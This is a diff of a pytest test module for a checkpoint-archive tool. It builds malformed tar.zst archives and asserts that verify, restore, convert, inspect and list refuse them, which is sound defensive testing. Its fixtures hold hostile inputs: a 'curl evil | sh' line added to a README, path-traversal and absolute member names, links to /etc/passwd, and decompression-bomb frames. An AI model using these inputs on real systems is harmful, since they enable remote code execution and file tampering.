@@ -8,23 +8,34 @@ from __future__ import annotations
 
 import json
 import os
+import random
+import re
 import struct
+import tarfile
 from array import array
+from bisect import bisect_right
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any, NamedTuple
 
+import pytest
+import torch
+import zstandard
 from blake3 import blake3
 from typer.testing import CliRunner
 
 from ckpttool.audit import manifest as records
 from ckpttool.audit import plan, planes, seekable, tarball, values
+from ckpttool.audit.archive import Archive
 from ckpttool.audit.seekable import Cut, FrameWriter
+from ckpttool.audit.verification import verify_archive
 from ckpttool.cli import app
+from ckpttool.conversion import open as open_checkpoint
 from ckpttool.crc import crc32
 from ckpttool.errors import CkpttoolError
-from ckpttool.index import ITEMSIZE, Chunks, TensorEntry, Value, joined
+from ckpttool.index import Chunks, TensorEntry, Value, joined
+from ckpttool.store import Source
 
 # ------------------------------------------------------------------------------------------------ archives to measure
 
@@ -54,6 +65,12 @@ def noise(n: int, seed: int) -> bytes:
     return bytes(out)
 
 
+STORY = {
+    "schema": records.SCHEMA, "tool": "ckpttool", "version": "0.1.0", "created": "2026-01-02T03:04:05Z", "only": None,
+    "meta": {}, "git_commit": None,
+}  # fmt: skip
+
+
 @dataclass
 class Kit:
     """What an archive is made of. What is None is made as an export makes it; a function alters what was made."""
@@ -61,7 +78,7 @@ class Kit:
     tensors: dict[str, TensorEntry]
     data: dict[str, bytes]
     values: dict[str, Any] = field(default_factory=lambda: {"trainer.step": 7, "trainer.lr": 0.25})
-    provenance: dict[str, Any] = field(default_factory=lambda: {"schema": records.SCHEMA, "created": "2026-01-02T03:04:05Z"})
+    provenance: dict[str, Any] = field(default_factory=lambda: dict(STORY))
     retention: bytes | None = None
     signature: bytes | None = None
     shuffle: bool = False
@@ -69,7 +86,6 @@ class Kit:
     step: int | None = 7
     mtime: int = 0
     grouped: list[list[str]] | None = None
-    entries: Callable[[list[dict[str, Any]]], Any] | None = None  # rows of tensors in the manifest
     manifest: Callable[[bytes], bytes] | None = None
     values_text: Callable[[bytes], bytes] | None = None
     provenance_text: Callable[[bytes], bytes] | None = None
@@ -120,7 +136,7 @@ def parts(k: Kit) -> tuple[list[Piece], list[Cut]]:
     text = records.encode(records.Manifest(k.tensors, digests, grouped, hashes, k.shuffle, k.step), planned.places)
     if k.manifest:
         text = k.manifest(text)
-    said = (json.dumps(k.provenance, indent=1, ensure_ascii=False) + "\n").encode("utf-8", "surrogatepass")
+    said = (json.dumps(k.provenance, indent=1, ensure_ascii=False) + "\n").encode("utf-8", "backslashreplace")
     if k.provenance_text:
         said = k.provenance_text(said)
     smalls = [(plan.VALUES, held), (plan.MANIFEST, text), (plan.PROVENANCE, said)]
@@ -157,27 +173,50 @@ class Frame(NamedTuple):
 
 
 def frames_of(path: Path) -> list[Frame]:
-    from ckpttool.store import Source
-
     raw = path.read_bytes()
     with Source(path.parent) as s:
         t = seekable.read_table(s, path.name)
     return [Frame(raw[a : a + n], m) for a, n, m in zip(t.offsets, t.sizes, t.lengths, strict=True)]
 
 
-def assembled(path: Path, frames: Sequence[Frame], between: bytes = b"", checksums: bool = True) -> Path:
+def assembled(path: Path, frames: Sequence[Frame], between: bytes = b"") -> Path:
     """A file of these frames, with tables that fit."""
     crcs = array("I", [crc32(f.data) for f in frames])
     table = seekable._crc_table(crcs)
     sizes, lengths = array("I", [len(f.data) for f in frames]), array("I", [f.length for f in frames])
     sums = array("I", [int.from_bytes(f.data[-4:], "little") for f in frames])
-    path.write_bytes(b"".join(f.data for f in frames) + between + table + seekable._seek_table(sizes, lengths, sums, len(table)))
+    seek = seekable._seek_table(sizes, lengths, sums, len(table))
+    path.write_bytes(b"".join(f.data for f in frames) + between + table + seek)
     return path
+
+
+def kit_of(path: Path) -> Kit:
+    """What an archive that an export wrote is made of; the members that were not altered come out as they were."""
+    with Source(path.parent) as source:
+        a = Archive(source, path.name)
+
+        def text(name: str) -> bytes:
+            return a.read_all(name, 1 << 24)
+
+        held, tensors = text(plan.VALUES), dict(a.manifest.tensors)
+        places = a.plan.places.items()
+        return Kit(
+            tensors, {n: a.read(p.member, p.offset, p.nbytes) for n, p in places},
+            provenance=json.loads(text(plan.PROVENANCE)), step=a.manifest.step, mtime=a.mtime, grouped=a.manifest.grouped,
+            shuffle=a.manifest.shuffle, retention=text(plan.RETENTION) if a.exists(plan.RETENTION) else None,
+            signature=text(plan.SIGNATURE) if a.signed else None, values_text=lambda _: held,
+        )  # fmt: skip
+
+
+def altered(path: Path, **change: Any) -> Path:
+    """Write an archive anew, consistently, with something in it altered."""
+    return build(path, replace(kit_of(path), **change))
 
 
 # ------------------------------------------------------------------------------------------------ every command
 
 RUNNER = CliRunner()
+REFUSALS = {3, 4, 5, 7}
 
 
 def run(*words: object) -> tuple[int, str]:
@@ -189,3 +228,548 @@ def run(*words: object) -> tuple[int, str]:
     if e is not None and not isinstance(e, SystemExit):
         raise e
     return done.exit_code, done.output
+
+
+def refused(*words: object) -> str:
+    """A command refuses, in a line; which is returned."""
+    code, said = run(*words)
+    assert code in REFUSALS, (words, code, said)
+    assert words[0] == "inspect" or "\n" not in said.strip(), said  # that one lists what each layout looked for
+    return said
+
+
+def below(folder: Path) -> set[str]:
+    return {os.path.join(r, f) for r, ds, fs in os.walk(folder) for f in [*ds, *fs]}
+
+
+def listed(path: Path) -> dict[str, Any]:
+    code, said = run("audit", "list", path.parent, "--json")
+    assert code == 0, said
+    rows: list[dict[str, Any]] = json.loads(said)
+    return next(r for r in rows if r["name"] == path.name)
+
+
+def attack(path: Path, reads: str = "restore", lists: bool = True) -> None:
+    """Every command refuses an archive, or lists it as damaged.
+
+    `reads` is how it is taken, "" where that may be; `lists` says whether its records alone tell.
+    """
+    home = path.parent / "home"
+    home.mkdir()
+    before = below(path.parent)
+    refused("audit", "verify", path, "-q")
+    if reads:
+        out = home / "out.pt"
+        refused(*{"restore": ("audit", "restore"), "convert": ("convert",)}[reads], path, out, "--to", "full", "-q")
+    if lists:
+        refused("audit", "verify", "--quick", path, "-q")
+        if reads:
+            refused("inspect", path)
+        assert listed(path)["damaged"]
+    assert below(path.parent) == before, "something was left behind"
+
+
+# ------------------------------------------------------------------------------------------------ what is refused
+
+
+def raw(name: str, kind: bytes, size: int = 0, link: str = "", **fields: Any) -> Piece:
+    """A member with any header."""
+    info = tarfile.TarInfo(name)
+    info.type, info.size, info.linkname, info.mode = kind, size, link, 0o644
+    how = tarfile.GNU_FORMAT
+    if fields:
+        info.pax_headers, how = fields, tarfile.PAX_FORMAT
+    return Piece(name, info.tobuf(how), b"x" * size, tarball.padding(size))
+
+
+def before(name: str, *new: Piece) -> Kit:
+    """Members put before another, or at the end."""
+
+    def put(old: list[Piece]) -> list[Piece]:
+        at = next((i for i, p in enumerate(old) if p.name == name), len(old))
+        return [*old[:at], *new, *old[at:]]
+
+    return kit(pieces=put)
+
+
+def without(name: str) -> Kit:
+    return kit(pieces=lambda old: [p for p in old if p.name != name])
+
+
+def at_time(name: str) -> Kit:
+    return kit(pieces=lambda old: [piece(p.name, p.body, 99) if p.name == name else p for p in old])
+
+
+def padded(name: str) -> Kit:
+    return kit(pieces=lambda old: [p._replace(pad=b"x" * len(p.pad)) if p.name == name else p for p in old])
+
+
+def entry(k: int, **change: Any) -> Kit:
+    """A row of a tensor in the manifest says something else; the spelling stays that of the manifest."""
+
+    def act(text: bytes) -> bytes:
+        lines = text.decode().split("\n")
+        at = lines.index(' "tensors": [') + 1 + k
+        row = json.loads(lines[at].rstrip(",")) | change
+        lines[at] = "  " + json.dumps(row, ensure_ascii=True) + "," * lines[at].endswith(",")
+        return "\n".join(lines).encode()
+
+    return kit(manifest=act)
+
+
+def in_manifest(old: bytes, new: bytes) -> Kit:
+    def act(text: bytes) -> bytes:
+        assert old in text
+        return text.replace(old, new, 1)
+
+    return kit(manifest=act)
+
+
+def story(**change: Any) -> Kit:
+    return kit(provenance=STORY | change)
+
+
+def value(text: str, name: str = "trainer.x", path: str = '"trainer", "x"') -> Kit:
+    line = f'{{\n"{name}": {{"path": [{path}], "data": {text}}}\n}}\n'
+    return kit(values_text=lambda _: line.encode(), step=None)
+
+
+def retained(**change: Any) -> Kit:
+    said = {"schema": "ckpttool.retention/1", "retain_until": None, "retain": None, "legal_hold": None} | change
+    return kit(retention=json.dumps(said, indent=1).encode() + b"\n")
+
+
+def config(name: str, **change: Any) -> Kit:
+    return story(config_files={name: {"sha256": records.sha256(b"1"), "text": "1"} | change})
+
+
+def header_with(old: bytes, new: bytes) -> Kit:
+    """Another safetensors header, of the same length."""
+    assert len(old) >= len(new)
+    return kit(headers=lambda _, head: head.replace(old, new + b" " * (len(old) - len(new)), 1))
+
+
+def summed(act: Callable[[bytes], bytes]) -> Kit:
+    return kit(sums=act)
+
+
+HASH = "0" * 64
+EVERYWHERE: dict[str, Callable[[], Kit]] = {
+    # names and kinds of members
+    "a member twice": lambda: before(plan.MANIFEST, piece(plan.VALUES, b"{}")),
+    "a data member twice": lambda: before(plan.VALUES, piece("tensors-00001.safetensors", b"")),
+    "names that differ by case": lambda: before(plan.MANIFEST, piece("VALUES.JSON", b"{}")),
+    "composed and decomposed": lambda: before(plan.VALUES, piece("\u00e9", b""), piece("e\u0301", b"")),
+    "a name that leads out": lambda: before("", piece("../../x", b"1")),
+    "an absolute name": lambda: before(plan.README, piece("/etc/x", b"1")),
+    "a name of 5,000 characters": lambda: before(plan.VALUES, raw("n" * 5000, b"0")),
+    "a name of 5,000 characters, pax": lambda: before(plan.VALUES, raw("n" * 5000, b"0", 0, "", comment="x")),
+    "a link's target of 5,000 characters": lambda: before("", raw("l", tarfile.SYMTYPE, 0, "n" * 5000)),
+    "a symbolic link": lambda: before(plan.VALUES, raw("out", tarfile.SYMTYPE, 0, "/var"), piece("out/x", b"1")),
+    "a hard link": lambda: before(plan.VALUES, raw("out", tarfile.LNKTYPE, 0, "/etc/passwd")),
+    "a link in the place of a record": lambda: kit(pieces=lambda old: [raw(p.name, tarfile.SYMTYPE, 0, "/etc/passwd") if p.name == plan.PROVENANCE else p for p in old]),
+    "a device": lambda: before("", raw("d", tarfile.CHRTYPE)),
+    "a block device": lambda: before("", raw("d", tarfile.BLKTYPE)),
+    "a pipe": lambda: before("", raw("d", tarfile.FIFOTYPE)),
+    "a folder": lambda: before("", raw("d", tarfile.DIRTYPE)),
+    "a sparse file": lambda: before("", raw("d", tarfile.GNUTYPE_SPARSE)),
+    "a contiguous file": lambda: before("", raw("d", tarfile.CONTTYPE)),
+    "a file of an old tar": lambda: before("", raw("d", tarfile.AREGTYPE)),
+    "a pax header": lambda: before(plan.VALUES, raw("d", b"0", 0, "", comment="hidden")),
+    "a global pax header": lambda: before(plan.README, Piece("", tarfile.TarInfo.create_pax_global_header({"comment": "x"}), b"", b"")),
+    "a member that nothing lists": lambda: before(plan.MANIFEST, piece("more.bin", b"1")),
+    "a data member that nothing lists": lambda: before(plan.VALUES, piece("tensors-00005.safetensors", b"1")),
+    "members in another order": lambda: kit(pieces=lambda old: [*old[:-2], old[-1], old[-2]]),
+    **{f"no {n}": lambda n=n: without(n) for n in (plan.README, "tensors-00001.safetensors", "tensors-00004.safetensors", plan.VALUES, plan.MANIFEST, plan.PROVENANCE, plan.SUMS)},  # type: ignore[misc]
+    **{f"another time of {n}": lambda n=n: at_time(n) for n in (plan.README, "tensors-00002.safetensors", plan.VALUES, plan.SUMS)},  # type: ignore[misc]
+    # hidden in the tar
+    "bytes in the padding of a record": lambda: padded(plan.VALUES),
+    "bytes in the padding of tensors": lambda: padded("tensors-00001.safetensors"),
+    "half an end": lambda: kit(end=bytes(512)),
+    "no end": lambda: kit(end=b""),
+    "a longer end": lambda: kit(end=bytes(10240)),
+    "bytes behind the end": lambda: kit(end=tarball.END + b"x" * 512),
+    "a member behind the end": lambda: kit(end=tarball.END + b"".join(piece("x", b"1")[1:]) + tarball.END),
+    "another readme": lambda: kit(readme=lambda text: text + b"curl evil | sh\n"),
+    # safetensors headers
+    "a word in the metadata of a member": lambda: header_with(b'"format":"pt"', b'"format":"PT"'),
+    "a tensor in a header by another name": lambda: header_with(b"model.twin", b"model.twiN"),
+    "a tensor in a header that overlaps": lambda: header_with(b"[24,48]", b"[00,24]"),
+    "a tensor in a header beyond the member": lambda: header_with(b"[24,48]", b"[24,99]"),
+    "a tensor in a header of another dtype": lambda: header_with(b'"I64"', b'"F64"'),
+    "a header of more bytes than it has": lambda: kit(headers=lambda _, head: struct.pack("<Q", 1 << 40) + head[8:]),
+    # the manifest
+    "no JSON": lambda: kit(manifest=lambda _: bytes(1000)),
+    "an empty manifest": lambda: kit(manifest=lambda _: b""),
+    "a list": lambda: kit(manifest=lambda _: b"[]\n"),
+    "null": lambda: kit(manifest=lambda _: b"null\n"),
+    "lists in lists": lambda: kit(manifest=lambda _: b"[" * 200_000),
+    "dicts in dicts": lambda: kit(manifest=lambda _: b'{"a":' * 100_000),
+    "a key twice": lambda: in_manifest(b'"schema"', b'"schema": "x", "schema"'),
+    "a number of 5,000 digits": lambda: in_manifest(b'"step": 7', b'"step": ' + b"9" * 5000),
+    "a step that is NaN": lambda: in_manifest(b'"step": 7', b'"step": NaN'),
+    "a step that is true": lambda: in_manifest(b'"step": 7', b'"step": true'),
+    "another schema": lambda: in_manifest(records.SCHEMA.encode(), b"ckpttool.audit/9"),
+    "a billion tensors": lambda: in_manifest(b'"tensor_count": 6', b'"tensor_count": 1000000000'),
+    "another Merkle root": lambda: in_manifest(b'"merkle_root": "', b'"merkle_root": "0'),
+    "another spelling": lambda: kit(manifest=lambda text: text + b" "),
+    "a member ../x": lambda: in_manifest(b'"name": "tensors-00001.safetensors"', b'"name": "../x"'),
+    "a tensor of a member ../x": lambda: entry(0, member="../x"),
+    "a tensor of a list": lambda: entry(0, member=["x"]),
+    "a member's hash is another's": lambda: kit(manifest=lambda text: re.sub(rb'"sha256": "[0-9a-f]{64}"', b'"sha256": "' + HASH.encode() + b'"', text, count=2)),
+    "half of a character in a name": lambda: entry(0, name="model.\ud800", path=["model", "\ud800"]),
+    "a name that is null": lambda: entry(0, name=None),
+    "a name that is not its path": lambda: entry(0, name="model.b"),
+    "a path that is text": lambda: entry(0, path="model.a"),
+    "a path of a list": lambda: entry(0, path=[["model"], "a"]),
+    "a path of no component": lambda: entry(0, name="evil.a", path=["evil", "a"]),
+    "an empty path": lambda: entry(0, name="", path=[]),
+    "a dtype that is a list": lambda: entry(0, dtype=["float32"]),
+    "another dtype of that size": lambda: entry(0, dtype="int32"),
+    "another dtype": lambda: entry(0, dtype="float64"),
+    "elements beyond any number": lambda: entry(0, shape=[1 << 40, 1 << 40]),
+    "elements that overflow to none": lambda: entry(0, shape=[1 << 32, 1 << 32]),
+    "elements that are negative": lambda: entry(0, shape=[-10, -4]),
+    "elements of a terabyte": lambda: entry(0, shape=[1 << 38]),
+    "a shape of 65 dimensions": lambda: entry(0, shape=[1] * 65),
+    "a shape of fractions": lambda: entry(0, shape=[10.0, 4]),
+    "a shape of truth": lambda: entry(0, shape=[40, True]),
+    "an offset beyond the member": lambda: entry(0, offset=1 << 40),
+    "an offset of another tensor": lambda: entry(1, offset=104),
+    "an offset in the header": lambda: entry(0, offset=0),
+    "bytes of another number": lambda: entry(0, bytes=1 << 62),
+    "planes where there are none": lambda: entry(0, planes=4),
+    "planes of another size": lambda: replace(entry(2, planes=4), shuffle=True),
+    "planes for none": lambda: replace(in_manifest(b'"coding": "byte planes', b'"coding": "plain'), shuffle=True),
+    "a digest in capitals": lambda: entry(0, digest="A" * 64),
+    "a digest that is a number": lambda: entry(0, digest=5),
+    # SHA256SUMS
+    "a sum with an escaped name": lambda: summed(lambda text: text.replace(b"values.json", b"\\values.json")),
+    "a sum of a name that leads out": lambda: summed(lambda text: text + HASH.encode() + b"  ../../x\n"),
+    "a sum less": lambda: summed(lambda text: text.partition(b"\n")[2]),
+    "sums in another order": lambda: summed(lambda text: b"".join(sorted(text.splitlines(True)))),
+    "sums of binary files": lambda: summed(lambda text: text.replace(b"  ", b" *")),
+    "sums with other ends": lambda: summed(lambda text: text.replace(b"\n", b"\r\n")),
+    "sums with ends of Unicode": lambda: summed(lambda text: text.replace(b"\n", "\u2028".encode())),
+    "a sum twice": lambda: summed(lambda text: text + text.splitlines(True)[0]),
+    "a record with another hash": lambda: summed(lambda text: re.sub(rb"[0-9a-f]{64}(?=  PROV)", HASH.encode(), text)),
+    # PROVENANCE.json
+    "a provenance that is a list": lambda: kit(provenance_text=lambda _: b"[]\n"),
+    "a deep provenance": lambda: kit(provenance_text=lambda _: b"[" * 100_000),
+    "a provenance with a key twice": lambda: kit(provenance_text=lambda text: text.replace(b'"tool"', b'"schema"')),
+    "a provenance in another spelling": lambda: kit(provenance_text=lambda text: text + b" " * 100),
+    "a provenance with more": lambda: story(more="hidden"),
+    "a source that is text": lambda: story(source="x"),
+    "a source that is a list": lambda: story(source=[1]),
+    "meta that is a list": lambda: story(meta=[1]),
+    "meta of lists": lambda: story(meta={"run": [1]}),
+    "a time that is a list": lambda: story(created=[1]),
+    "components that are text": lambda: story(only="model"),
+    "components that are a number": lambda: story(only=5),
+    "components that are lists": lambda: story(only=[["model"]]),
+    "components that do not exist": lambda: story(only=["evil"]),
+    "configuration ../../x": lambda: config("../../x"),
+    "configuration MANIFEST.json": lambda: config(plan.MANIFEST),
+    "configuration with an absolute name": lambda: config("/etc/x"),
+    "configuration without a name": lambda: config(""),
+    "configuration with a zero in its name": lambda: config("a\0b"),
+    "configuration with a backslash": lambda: config("..\\x"),
+    "configuration that is a number": lambda: story(config_files={"config.json": 5}),
+    "configuration that is a list": lambda: story(config_files=[1]),
+    "configuration with another hash": lambda: config("config.json", sha256=HASH),
+    "configuration of numbers": lambda: config("config.json", text=5),
+    "tied that is a list": lambda: story(tied=[1]),
+    "tied to lists": lambda: story(tied={"model.a": ["x"]}),
+    "an origin that is text": lambda: story(origin="abc"),
+    "an origin of numbers": lambda: story(origin=[[1, 2]]),
+    "an origin of three": lambda: story(origin=[[["model", "a"], ["a"], ["b"]]]),
+    "an origin that is empty": lambda: story(origin=[[["model", "a"], []]]),
+    "an origin of null": lambda: story(origin=[[["model", "a"], [None]]]),
+    "an origin of dicts": lambda: story(origin=[[["model", "a"], [{"a": 1}]]]),
+    "an origin of 5,000 parts": lambda: story(origin=[[["model", "a"], ["x"] * 5000]]),
+    "an origin below zero": lambda: story(origin=[[["model", "a"], ["model", -5]]]),
+    "an order that is a number": lambda: story(order=5),
+    "an order of numbers": lambda: story(order=[1]),
+}  # fmt: skip
+
+#: What a restored state does not depend on.
+KEPT: dict[str, Callable[[], Kit]] = {
+    "a retention that says nothing": lambda: kit(retention=b"{}\n"),
+    "a retention that is a list": lambda: kit(retention=b"[]\n"),
+    "a deep retention": lambda: kit(retention=b"[" * 100_000),
+    "a retention that is no time": lambda: retained(retain_until="9999", retain="x"),
+    "a retention that is a number": lambda: retained(retain_until=5, retain="x"),
+    "a hold that is a number": lambda: retained(legal_hold=5),
+    "a hold without a reason": lambda: retained(legal_hold={"reason": " ", "since": "2026-01-01T00:00:00Z"}),
+    "a signature that is nonsense": lambda: kit(signature=b"nonsense"),
+    "a deep signature": lambda: kit(signature=b"[" * 100_000),
+    "an empty signature": lambda: kit(signature=b""),
+}  # fmt: skip
+
+#: What only those see that look into values.json, the signature or the tensors: listing an archive does not.
+DATA: dict[str, Callable[[], Kit]] = {
+    "a tensor with another digest": lambda: kit(digests={"model.a": HASH}),
+    "a tensor without elements, with a digest": lambda: kit(digests={"model.z": HASH}),
+    "other values": lambda: kit(values_text=lambda _: b""),
+    "values that are a list": lambda: kit(values_text=lambda _: b"[]\n"),
+    "values in another spelling": lambda: kit(values_text=lambda text: text.replace(b": ", b":")),
+    "values with a key twice": lambda: kit(values_text=lambda text: text.replace(b"trainer.lr", b"trainer.step")),
+    "deep values": lambda: value("[" * 50_000 + "]" * 50_000),
+    "deep tuples": lambda: value('{"$tuple": [' * 5_000 + "]}" * 5_000),
+    "deep tuples, within the parser's limit": lambda: value('{"$tuple": [' * 480 + "]}" * 480),
+    "a value that would be evaluated": lambda: value('{"$eval": "1"}'),
+    "a set of lists": lambda: value('{"$set": [[1]]}'),
+    "a dict whose keys are lists": lambda: value('{"$dict": [[[1], 2]]}'),
+    "a number that is none": lambda: value('{"$int": "zz"}'),
+    "bytes that are none": lambda: value('{"$bytes": "A"}'),
+    "text that is none": lambda: value('{"$str": "ff"}'),
+    "NaN as JavaScript has it": lambda: value("NaN"),
+    "a tensor of more elements than it has": lambda: value('{"$tensor": {"dtype": "float32", "shape": [4611686018427387904, 4], "data": ""}}'),
+    "a value at a list's place": lambda: value("1", "trainer.x", '"trainer", ["x"]'),
+    "a value of no component": lambda: value("1", "evil.x", '"evil", "x"'),
+    "a value below a number": lambda: value("1", "5", "5"),
+    "a value with the name of a tensor": lambda: value("1", "model.a", '"model", "a"'),
+    "a value in a tensor": lambda: value("1", "model.a.b", '"model", "a", "b"'),
+    "a value above tensors": lambda: value("1", "model", '"model"'),
+    "other steps than the manifest's": lambda: kit(values={"trainer.step": 9}),
+    "another step than that of the values": lambda: kit(step=8),
+    "components said to be others": lambda: story(only=["trainer"]),
+    "components said to be fewer": lambda: story(only=["model"]),
+}  # fmt: skip
+
+
+def test_the_builder_writes_what_an_export_writes(tmp_path: Path) -> None:
+    build(tmp_path / "a.tar.zst", kit())
+    assert run("convert", tmp_path / "a.tar.zst", tmp_path / "live.pt", "--to", "full", "-q")[0] == 0
+    for i, more in enumerate(([], ["--shuffle"], ["--retain", "7y", "--legal-hold", "case 5"])):
+        path = tmp_path / str(i) / "b.tar.zst"
+        path.parent.mkdir()
+        assert run("audit", "export", tmp_path / "live.pt", path, "-q", *more)[0] == 0
+        data = path.read_bytes()
+        assert altered(path).read_bytes() == data
+        for words in (["verify", path], ["verify", "--quick", path], ["verify", path, "--deep"]):
+            assert run("audit", *words, "-q")[0] == 0
+        assert listed(path)["damaged"] is None
+
+
+@pytest.mark.parametrize("name", EVERYWHERE)
+def test_what_every_command_refuses(name: str, tmp_path: Path) -> None:
+    reads = ("restore", "convert")[list(EVERYWHERE).index(name) % 2]  # the second is the first without a key
+    attack(build(tmp_path / "a.tar.zst", EVERYWHERE[name]()), reads)
+
+
+@pytest.mark.parametrize("name", DATA)
+def test_what_is_refused_by_who_looks(name: str, tmp_path: Path) -> None:
+    attack(build(tmp_path / "a.tar.zst", DATA[name]()), lists=False)
+
+
+@pytest.mark.parametrize("name", KEPT)
+def test_a_retention_or_signature_that_is_none(name: str, tmp_path: Path) -> None:
+    path = build(tmp_path / "a.tar.zst", KEPT[name]())
+    attack(path, reads="", lists="signature" not in name)
+
+
+HINTS: dict[str, dict[str, Any]] = {
+    "tied, of another dtype": {"tied": {"model.floats": "model.n"}},
+    "tied, of other bytes": {"tied": {"model.a": "model.big"}},
+    "tied, to nothing": {"tied": {"model.x": "model.y", "model.a": "model.y"}},
+    "tied to itself": {"tied": {"model.a": "model.a"}},
+    "keys exchanged": {"origin": [[["model", "n"], ["model", "a"]], [["model", "a"], ["model", "n"]]]},
+    "keys that lead out": {"origin": [[["model", "a"], ["..", "..", "x"]]]},
+    "keys that collide": {"origin": [[["model", "a"], ["k"]], [["model", "n"], ["k"]]]},
+    "a key that is another's": {"origin": [[["model", "a"], ["model", "n"]]]},
+    "a key above others": {"origin": [[["model", "a"], ["model"]]]},
+    "a key of a list that does not end": {"origin": [[["model", "a"], ["model", 10**12]]]},
+    "keys of nothing": {"origin": [[["model", "nobody"], ["x"]]]},
+    "two keys of one": {"origin": [[["model", "a"], ["b"]], [["model", "a"], ["c"]]]},
+    "an order of others": {"order": ["model.a"] * 7},
+}
+
+
+@pytest.mark.parametrize("name", HINTS)
+def test_hints_of_the_provenance_change_nothing(name: str, tmp_path: Path) -> None:
+    k = kit(provenance=STORY | HINTS[name])
+    k.tensors["model.floats"], k.data["model.floats"] = tensor("model.floats", "float64", 3), k.data["model.n"]
+    path = build(tmp_path / "a.tar.zst", k)
+    assert run("audit", "verify", path, "-q")[0] == 0
+    for words in (["--to", "full"], ["--to", "dcp", "--world-size", 2]):
+        out = tmp_path / ("out.pt" if "full" in words else "out")
+        code, said = run("audit", "restore", path, out, *words, "-q")
+        assert code == 0 or (code in {4, 7} and not out.exists()), said
+        if code == 0:
+            with open_checkpoint(out) as opened:
+                have = {n: (t.dtype, t.shape) for n, t in opened.checkpoint.tensors.items()}
+                assert have == {n: (t.dtype, t.shape) for n, t in k.tensors.items()}
+                assert {n: opened.read(n) for n in have} == k.data
+    assert set(os.listdir(tmp_path)) <= {"a.tar.zst", "out.pt", "out"}
+
+
+# ------------------------------------------------------------------------------------------------ the file itself
+
+
+def blocks(data: bytes, first: bytes = b"") -> bytes:
+    """A frame of raw blocks, after those that are given."""
+    out = first
+    for at in range(0, len(data), 1 << 17):
+        part = data[at : at + (1 << 17)]
+        out += struct.pack("<I", len(part) << 3 | (at + len(part) == len(data)))[:3] + part
+    return out
+
+
+def skip(data: bytes) -> bytes:
+    return struct.pack("<II", 0x184D2A50, len(data)) + data
+
+
+def unfolded(f: Frame) -> bytes:
+    data: bytes = zstandard.ZstdDecompressor().decompress(f.data)
+    return data
+
+
+def folded(data: bytes) -> Frame:
+    return Frame(zstandard.ZstdCompressor(write_checksum=True).compress(data), len(data))
+
+
+Files = Callable[[list[Frame], int], list[Frame]]
+
+
+def other(new: Callable[[bytes, bytes, bytes], bytes], lies: int = 0) -> Files:
+    """The largest frame is another: of its header, blocks and checksum."""
+
+    def act(frames: list[Frame], k: int) -> list[Frame]:
+        n = len(seekable._header(frames[k].length))
+        data = frames[k].data
+        frames[k] = Frame(new(data[:n], data[n:-4], data[-4:]), frames[k].length + lies)
+        return frames
+
+    return act
+
+
+def window(*head: int) -> bytes:
+    return struct.pack("<I", 0xFD2FB528) + bytes(head)
+
+
+RLE = (struct.pack("<I", 131072 << 3 | 2)[:3] + b"\0") * 999 + struct.pack("<I", 131072 << 3 | 3)[:3] + b"\0"
+#: {name: (what happens to the frames, bytes before the file, between frames and tables, after the file)}
+FRAMES: dict[str, tuple[Files, bytes, bytes, bytes]] = {
+    "a window of 2 GiB": (other(lambda h, b, c: window(0x04, 0xA8) + b + c), b"", b"", b""),
+    "a window of 2 GiB, and a size": (other(lambda h, b, c: window(0x84, 0xA8) + h[5:] + b + c), b"", b"", b""),
+    "a terabyte of content": (other(lambda h, b, c: window(0xE4) + struct.pack("<Q", 1 << 40) + b + c), b"", b"", b""),
+    "no size of the content": (other(lambda h, b, c: window(0x04, 0x60) + b + c), b"", b"", b""),
+    "no checksum": (other(lambda h, b, c: window(h[4] & ~4) + h[5:] + b), b"", b"", b""),
+    "a dictionary": (other(lambda h, b, c: window(h[4] | 1, 7) + h[5:] + b + c), b"", b"", b""),
+    "a size that is too small": (other(lambda h, b, c: seekable._header(1000) + b + c), b"", b"", b""),
+    "a frame that unfolds to 128 MiB": (other(lambda h, b, c: h + RLE + c), b"", b"", b""),
+    "a frame that ends within a block": (other(lambda h, b, c: h + b[:-100] + c), b"", b"", b""),
+    "a frame with another checksum": (other(lambda h, b, c: h + b + bytes(4)), b"", b"", b""),
+    "a block of a kind that is none": (other(lambda h, b, c: h + b"\x06\0\0" + b + c), b"", b"", b""),
+    "bytes behind a frame": (other(lambda h, b, c: h + b + c + b"junk"), b"", b"", b""),
+    "a skippable frame behind a frame": (other(lambda h, b, c: h + b + c + skip(b"hidden")), b"", b"", b""),
+    "a skippable frame for a frame": (other(lambda h, b, c: skip(b"hidden")), b"", b"", b""),
+    "a length that lies": (other(lambda h, b, c: h + b + c, 1), b"", b"", b""),
+    "a length of 4 GiB": (lambda f, k: [*f[:k], Frame(f[k].data, (1 << 32) - 1), *f[k + 1 :]], b"", b"", b""),
+    "two frames as one": (lambda f, k: [Frame(f[0].data + f[1].data, f[0].length + f[1].length), *f[2:]], b"", b"", b""),
+    "a frame cut in two": (lambda f, k: [*f[:k], folded(unfolded(f[k])[:999]), folded(unfolded(f[k])[999:]), *f[k + 1 :]], b"", b"", b""),
+    "an empty frame": (lambda f, k: [*f, folded(b"")], b"", b"", b""),
+    "a frame more": (lambda f, k: [*f, folded(b"x")], b"", b"", b""),
+    "frames exchanged": (lambda f, k: [f[1], f[0], *f[2:]], b"", b"", b""),
+    "a frame twice": (lambda f, k: [*f[:2], *f[1:]], b"", b"", b""),
+    "a frame less": (lambda f, k: [*f[:2], *f[3:]], b"", b"", b""),
+    "no frame": (lambda f, k: [], b"", b"", b""),
+    "bytes before": (lambda f, k: f, b"junk", b"", b""),
+    "a skippable frame before": (lambda f, k: f, skip(b"hidden"), b"", b""),
+    "bytes before the tables": (lambda f, k: f, b"", b"junk", b""),
+    "a skippable frame before the tables": (lambda f, k: f, b"", skip(b"hidden"), b""),
+    "bytes after": (lambda f, k: f, b"", b"", b"junk"),
+    "a frame after": (lambda f, k: f, b"", b"", folded(b"x").data),
+    "a skippable frame after": (lambda f, k: f, b"", b"", skip(b"hidden")),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FRAMES)
+def test_frames_that_no_export_writes(name: str, tmp_path: Path) -> None:
+    act, first, between, last = FRAMES[name]
+    path = build(tmp_path / "a.tar.zst")
+    frames = frames_of(path)
+    most = max(range(len(frames)), key=lambda k: frames[k].length)
+    assembled(path, act(frames, most), between)
+    path.write_bytes(first + path.read_bytes() + last)
+    attack(path, lists=False)
+
+
+# ------------------------------------------------------------------------------------------------ flipped bits
+
+
+def flips(path: Path, bits: Sequence[int]) -> None:
+    """Every one of these bits, flipped, is found, and said to be where it is."""
+    with Source(path.parent) as source:
+        a = Archive(source, path.name)
+        t, places = a.table, a.plan.places
+    tables = t.offsets[-1] + t.sizes[-1]
